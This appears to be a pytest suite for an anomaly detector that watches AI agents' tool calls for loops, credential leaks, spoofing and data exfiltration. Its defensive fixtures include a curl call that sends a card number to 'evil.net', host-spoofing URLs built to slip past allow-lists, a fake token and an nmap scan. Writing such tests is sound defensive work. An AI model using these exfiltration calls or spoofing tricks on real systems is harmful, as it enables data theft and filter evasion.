"""Defects 7-23 listed of the typed findings this one replaces (Agent Assembly), each shown absent.

`docs/defects.md` has the table. 1-6 and 21 (its other half) stand in `test_defects`.
"""

from __future__ import annotations

import itertools
import json
from typing import TYPE_CHECKING, Any

import pytest
from pydantic import ValidationError

from otel_anomaly.config import AuditConfig, Config
from otel_anomaly.scoring import DETECTORS
from otel_anomaly.sinks import AuditSink
from otel_anomaly.telemetry import Telemetry
from tests.book_rigs import BookRig
from tests.habits import (
    HOUR,
    NOON,
    WARM_S,
    actions,
    calm,
    one,
    only,
    rig_of,
    signals,
    text,
    the_agent,
    warm_rig,
)
from tests.rig import Calls, arrays_of
from tests.sink_rigs import StoppedClock
from tests.sizes import scaled
from tests.traffic import attributes

if TYPE_CHECKING:
    from pathlib import Path

    from opentelemetry.proto.trace.v1.trace_pb2 import Span

SECRET = text(key="ghp_abcdefghijklmnopqrstuvwxyz0123456789")
CARD = "4111 1111 1111 1111"
LOOP: dict[str, Any] = only("loop", loop={"threshold": 5, "repeat": 5})


def repeated(spans: list[Span], **detectors: Any) -> str:
    """The strongest thing said of a stream in one session."""
    verdicts = rig_of(detectors or LOOP).send(spans)
    return next((v.action for v in reversed(verdicts) if v.action != "allow"), "allow")


def test_assembly_07_the_window_of_a_loop_moves() -> None:
    """
    Scenario: sixty equal polls over ten hours, with default limits; fifty within five minutes.
    Guarantees: the first are never told of; the second are.
    """
    call: dict[str, Any] = {"tool": "poll", "arguments": text(job=7)}
    assert repeated(Calls().many(60, NOON, 600, **call), **only("loop")) == "allow"
    assert repeated(Calls().many(50, NOON, 5, **call), **only("loop")) == "pause"


def test_assembly_08_the_count_of_secrets_falls() -> None:
    """
    Scenario: a busy agent whose calls carry a secret every 40 minutes for eight hours; then three
    within a minute.
    Guarantees: never three in an hour, so nothing is said; then it is.
    """
    rig, calls = rig_of(only("credential_leak")), Calls()
    for i in range(12):
        spans = calls.many(5, NOON + i * 2400, 60, arguments=text(page=i))
        verdicts = rig.send([*spans, calls.at(NOON + i * 2400 + 400, arguments=SECRET)])
        assert actions(verdicts) == {"allow"}
    spans = calls.many(3, NOON + 12 * 2400, 20, arguments=SECRET)
    assert rig.send(spans)[-1].types == ("credential_leak",)


SPELLINGS = (
    '{"path": "a", "depth": 1, "all": true}',
    '{ "depth":1,\n "path":"a" , "all":true}',
    '{"all":true,"depth":1.0,"path":"\\u0061"}',
    '{"depth":1e0,"all":true,"path":"a"}',
    '{"depth":10e-1,"path":"a","all":true}',
)


def test_assembly_09_arguments_are_compared_by_what_they_say() -> None:
    """
    Scenario: five spellings of the same arguments; calls whose tool and arguments only run together
    to the same text.
    Guarantees: the five are one call, five times; the others are different calls.
    """
    calls = Calls()
    same = [calls.at(NOON + i, arguments=spelt) for i, spelt in enumerate(SPELLINGS)]
    assert repeated(same) == "pause"
    rig = rig_of()
    rig.send([calls.at(NOON, tool=t, arguments=a) for t, a in (("a:b", '"c"'), ("a", '"b:c"'))])
    fingerprints = [told.fingerprint for told in rig.told if told is not None]
    assert len(set(fingerprints)) == 2
    assert 0 not in fingerprints


@pytest.mark.parametrize("period", [1, 2, 3, 4])
def test_assembly_10_cycles_are_seen_and_progress_is_not(period: int) -> None:
    """
    Scenario: cycles of one to four calls, five rounds; the same with a result that changes.
    Guarantees: the first are loops; the second are none.
    """
    pages = list(itertools.islice(itertools.cycle(range(period)), 5 * period))
    for changing, action in ((False, "pause"), (True, "allow")):
        calls = Calls()
        spans = [
            calls.at(NOON + i, arguments=text(page=page), result=str(i if changing else page))
            for i, page in enumerate(pages)
        ]
        assert repeated(spans) == action


def nested(calls: Calls, time_s: float, **call: Any) -> list[Span]:
    """One call as four spans: framework, MCP client, transport, MCP server."""
    outer = calls.at(time_s, tool="search", **call)
    below = outer
    spans = [outer]
    for name, marks in (
        ("tools/call search", [("mcp.method.name", "tools/call"), ("gen_ai.tool.name", "search")]),
        ("POST", [("http.request.method", "POST")]),
        ("tools/call search", [("mcp.method.name", "tools/call"), ("gen_ai.tool.name", "search")]),
    ):
        span = calls.at(time_s - 0.001 * len(spans), trace_id=outer.trace_id, agent=None)
        span.name, span.parent_span_id = name, below.span_id
        del span.attributes[:]
        span.attributes.extend(attributes(marks))
        spans.append(span)
        below = span
    return spans


@pytest.mark.parametrize("children_first", [True, False])
@pytest.mark.parametrize("requests", [1, 4])
def test_assembly_11_a_call_is_counted_once(*, children_first: bool, requests: int) -> None:
    """
    Scenario: ten calls, each told by four nested spans, in one request or each span in its own,
    children first or last.
    Guarantees: ten calls are counted, by every counter there is.
    """
    rig, calls = rig_of({}), Calls()
    for i in range(10):
        spans = nested(calls, NOON + i, arguments=text(page=i))
        spans = spans[::-1] if children_first else spans
        for part in range(requests):
            rig.send(spans[part * len(spans) // requests : (part + 1) * len(spans) // requests])
    rig.send(nested(calls, NOON + 10, arguments=text(page=10))[:1])
    assert rig.sign("rate")["observed"] == 11
    assert rig.sign("burst")["observed"] == 11
    assert the_agent(rig)["past"]["calls"] == 11
    assert rig.counts("tool_calls") == 11


def test_assembly_12_spoofing_can_be_found() -> None:
    """
    Scenario: the owner of a credential on the span, and on the resource as a gateway sets it; no
    owner at all.
    Guarantees: found in both; without one the detector is counted as skipped, with the reason.
    """
    told = [("credential.owner", "billing")]
    for on_span, on_resource in ((told, ()), ((), told)):
        rig = rig_of(identity={"owner": ["credential.owner"]})
        verdict = one(rig, Calls().at(NOON, extra=on_span), resource=on_resource)
        assert verdict.types == ("identity_spoofing",)
    rig = rig_of()
    one(rig, Calls().at(NOON))
    assert rig.counts("detector_skipped", "identity_spoofing", "not_told") == 1


def test_assembly_13_a_detector_that_never_runs_is_seen() -> None:
    """
    Scenario: a service that has judged nothing, then one call.
    Guarantees: every detector has its counters from the start; after the call each was evaluated,
    skipped for a stated reason, or is off by configuration. (That each can fire: `test_contract`.)
    """
    rig, calls = rig_of(), Calls()
    numbers = rig.processor.counts()
    for detector in DETECTORS:
        assert numbers["detector_evaluated", (detector,)] == 0
        assert numbers["findings", (detector, "warn")] == 0
    rig.send([calls.at(NOON)])
    numbers = rig.processor.counts()
    silent = {
        detector
        for detector in DETECTORS
        if not numbers["detector_evaluated", (detector,)]
        and not sum(
            n
            for (name, who), n in numbers.items()
            if name == "detector_skipped" and who[0] == detector
        )
    }
    assert silent == {"unknown_connection"}  # Off: nobody wrote a list.


def test_assembly_14_actions_have_one_meaning() -> None:
    """
    Scenario: the actions a configuration may ask for; what pause and block do besides being
    written.
    Guarantees: there is no action that does nothing: `quarantine` is refused; a call that was
    paused or blocked is not learned, one that was warned of is.
    """
    with pytest.raises(ValidationError):
        Config.model_validate({"detectors": {"loop": {"action": "quarantine"}}})
    for action, learned in (("warn", 61), ("pause", 60), ("block", 60)):
        rig, calls = warm_rig({"new_destination": {"action": action}})
        verdict = one(
            rig, calls.at(WARM_S, tool="read_page", arguments=text(url="https://new.org"))
        )
        assert verdict.action == action
        assert the_agent(rig)["past"]["calls"] == learned


def test_assembly_15_limits_per_entity() -> None:
    """
    Scenario: other limits for one tenant, one agent and one tool, by pattern.
    Guarantees: each holds for whom it is meant, and for nobody else.
    """
    strict = {"loop": {"threshold": 3, "repeat": 3}}
    overrides = [
        {who: f"strict-{who}*", "detectors": strict} for who in ("tenant", "agent", "tool")
    ]
    rig, calls = rig_of(only("loop"), policy={"overrides": overrides}), Calls()
    for i, who in enumerate(
        ({"tenant": "strict-tenant-1"}, {"agent": "strict-agent"}, {"tool": "strict-tool"}, {})
    ):
        spans = calls.many(3, NOON, 1, arguments=text(n=1), **{"session": f"s{i}", **who})
        assert rig.send(spans)[-1].action == ("pause" if who else "allow")


def test_assembly_16_one_episode_a_bout() -> None:
    """
    Scenario: a loop of thirty calls, every one above the limit after the fifth; quiet; then again.
    Guarantees: one start and one end for each bout, and the end knows how many.
    """
    rig, calls = rig_of(LOOP, alerts={"hold": "60s"}), Calls()
    for start_s in (NOON, NOON + 2000):
        rig.send(calls.many(30, start_s, 1, arguments=text(n=1)))
    assert rig.steps() == [("start", "loop"), ("end", "loop"), ("start", "loop")]
    ends = [step for told in rig.told if told for step in told.steps if step[0] == "end"]
    assert ends[0][2][4] == 26


def test_assembly_17_no_finding_hides_another() -> None:
    """
    Scenario: one call that starts a new program, with a card number, to a host not on the list, by
    an agent who is not the owner of its credential, with a tool never used.
    Guarantees: all are told, each with its clause; the strongest decides.
    """
    identity = {"owner": ["credential.owner"]}
    rig, calls = warm_rig({"unknown_connection": {"allow": ["*.example.com"]}}, identity=identity)
    arguments = text(command="curl", url="https://evil.net/drop", body=f"card {CARD}")
    span = calls.at(WARM_S, tool="bash", arguments=arguments, extra=[("credential.owner", "b")])
    verdict = one(rig, span)
    expected = {"risk", "unknown_connection", "new_destination", "child_process"}
    assert set(verdict.types) == expected | {"data_exfiltration", "identity_spoofing"}
    assert verdict.action == "block"
    assert all(f"{detector}: " in (verdict.reason or "") for detector in verdict.types)


@pytest.mark.parametrize(
    ("url", "body", "action"),
    [
        ("https://files.ours.com/up", CARD, "allow"),
        ("http://10.0.0.7/up", CARD, "allow"),
        ("http://localhost:8080/up", CARD, "allow"),
        ("https://files.theirs.com/up", CARD, "block"),
        ("https://files.theirs.com/up", "hello", "allow"),
    ],
)
def test_assembly_18_destination_and_content_count_together(
    url: str, body: str, action: str
) -> None:
    """
    Scenario: personal data to a host of ours, a private and a local address; to a host outside;
    nothing personal to it.
    Guarantees: only personal data that goes outside is stopped.
    """
    rig = rig_of({"data_exfiltration": {"inside": [".ours.com"]}})
    verdict = one(rig, Calls().at(NOON, tool="http_post", arguments=text(url=url, body=body)))
    assert verdict.action == action


@pytest.mark.parametrize(
    ("url", "action"),
    [
        ("https://API.Example.COM/v1", "allow"),
        ("https://api.example.com.:443/?q=https", "allow"),
        ("https://user:pw@api.example.com/", "allow"),
        ("https://[2001:db8::1]:8443/x", "allow"),
        ("https://[2001:db8:0:0::1]/x", "allow"),
        ("https://b\u00fccher.example/", "allow"),
        ("https://xn--bcher-kva.example/", "allow"),
        ("https://deep.down.example.org", "allow"),
        ("http://10.1.2.3:9000/", "allow"),
        ("https://api.example.com.evil.net/", "block"),
        ("https://api.example.com@evil.net/", "block"),
        ("https://evil.net/?host=api.example.com", "block"),
        ("https://notexample.org", "block"),
        ("http://11.1.2.3/", "block"),
        ("https:\\\\evil.net\\api.example.com", "block"),
    ],
)
def test_assembly_19_hosts_are_read_as_hosts(url: str, action: str) -> None:
    """
    Scenario: hosts in any case, with ports, users, IPv6, punycode, trailing dots and back slashes,
    against a list with names, suffixes and networks; strange hosts that look like listed ones.
    Guarantees: exactly the listed ones are let through.
    """
    allow = [
        "api.example.com",
        "*.example.org",
        "xn--bcher-kva.example",
        "10.0.0.0/8",
        "2001:db8::/32",
    ]
    rig = rig_of(only("unknown_connection", unknown_connection={"allow": allow}))
    assert one(rig, Calls().at(NOON, tool="fetch", arguments=text(url=url))).action == action


def test_assembly_20_calls_that_differ_take_no_room() -> None:
    """
    Scenario: thousands of different calls in one session, and in ever new ones.
    Guarantees: what is kept is not a byte larger, and a loop that runs between them is still seen.
    """
    rig, calls = rig_of(only("loop", loop={"threshold": 10, "repeat": 10})), Calls()
    before = sum(array.nbytes for array in arrays_of(rig.state))
    rig.send([calls.at(NOON + 0.01 * i, arguments=text(page=i)) for i in range(scaled(3000))])
    rig.send([calls.at(NOON, session=f"x{i}", arguments=text(page=i)) for i in range(300)])
    spans = [
        calls.at(NOON + 40 + i, arguments=text(page=-1 if i % 5 == 0 else 10_000 + i))
        for i in range(50)
    ]
    assert rig.send(spans)[45].action == "pause"
    assert sum(array.nbytes for array in arrays_of(rig.state)) == before


def test_assembly_21_what_is_stopped_is_not_learned() -> None:
    """
    Scenario: a shift in an agent's rate is paused, and the same burst comes ten calm seconds later,
    and again; what the paused calls used is asked for.
    Guarantees: every burst is paused at the same call: none became usual. Their tool is still new.
    """
    rig, calls = (
        rig_of(
            {"rate": {"enabled": False}, "rate_shift": {"min_calls_minute": 65535, "ceiling": 0}}
        ),
        Calls(),
    )
    rig.send(calm(calls))
    rig.send(calls.many(20, WARM_S, 1, tool="db_query"))
    found = []
    for bout in range(3):
        at = WARM_S + 20 + 11 * bout
        found.append([v.action for v in rig.send(calls.many(40, at, tool="bulk"))].index("pause"))
        rig.send(calls.many(10, at + 1, 1, tool="db_query"))
    assert found == [29, 29, 29]


def test_assembly_22_findings_are_written_down(tmp_path: Path) -> None:
    """
    Scenario: a finding; the bytes that go on, and the file of the audit trail.
    Guarantees: it stands in both: on the span for whoever stores traces, in the trail with what was
    observed, its limit and the span.
    """
    rig = BookRig(detectors={"child_process": {"mode": "always"}})
    span = Calls().at(NOON, tool="bash", arguments=text(command="ls"))
    rig.send(span)
    assert (
        b"child_process: the tool started a program, where none is to be started"
        in rig.room.payloads[-1].body
    )
    path = tmp_path / "audit.jsonl"
    sink = AuditSink(path, "config", AuditConfig(), Telemetry(), StoppedClock())
    sink.offer(rig.events)
    assert sink.close(10.0)
    record = json.loads(path.read_text("utf-8").splitlines()[0])
    assert (record["observed"], record["limit"]) == (1, 1)
    assert (record["span_id"], record["trace_id"]) == (span.span_id.hex(), span.trace_id.hex())


def test_assembly_23_an_agent_may_work_with_programs() -> None:
    """
    Scenario: an agent whose work is `git` and `make`, once it is known; then it starts `nmap`.
    Guarantees: its own programs are nothing new, however they are written; the new one is warned
    of, not blocked.
    """
    rig, calls = rig_of(), Calls()
    programs = ("git status", "make test", "cd /repo && git pull", "bash -c 'make lint'")
    spans = calm(calls, tool="bash", arguments=None)
    for i, span in enumerate(spans):
        command = programs[i % len(programs)]
        span.attributes.extend(attributes([("gen_ai.tool.call.arguments", text(command=command))]))
    assert actions(rig.send(spans)) == {"allow"}
    usual = one(
        rig, calls.at(WARM_S, tool="bash", arguments=text(command="sudo -u ci /usr/bin/git fetch"))
    )
    assert (usual.action, signals(usual)) == ("allow", {})
    verdict = one(
        rig, calls.at(WARM_S + HOUR / 2, tool="bash", arguments=text(command="nmap -sS 10.0.0.1"))
    )
    assert (verdict.action, verdict.types) == ("warn", ("new_destination", "child_process"))
